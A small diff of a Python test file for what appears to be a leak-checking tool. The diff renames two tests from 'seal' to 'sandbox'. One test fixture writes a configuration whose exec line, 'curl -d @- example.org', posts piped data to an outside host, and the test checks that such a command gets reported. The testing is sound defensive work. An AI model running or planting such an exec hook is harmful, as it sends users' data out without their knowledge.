@@ -44,7 +44,7 @@ def test_services_that_send_are_named_covered_or_not(monkeypatch: pytest.MonkeyP
     assert (found.grade, found.text) == (Grade.OK, "that send for others are covered for the listener: /usr")
 
 
-def test_a_command_of_the_configuration_is_outside_the_seal(home: Path) -> None:
+def test_a_command_of_the_configuration_is_outside_the_sandbox(home: Path) -> None:
     assert leak("plugins, --exec").grade is Grade.OK
     paths.private_dir(paths.config_dir())
     Path(paths.config_file()).write_text('[listen]\nexec = "curl -d @- example.org"\n')
@@ -67,5 +67,5 @@ def test_a_data_folder_on_a_network_is_said(
     assert leak("data folder").grade is grade
 
 
-def test_what_no_seal_prevents_is_stated() -> None:
+def test_what_no_sandbox_prevents_is_stated() -> None:
     assert "same microphone" in leak("other programs").text
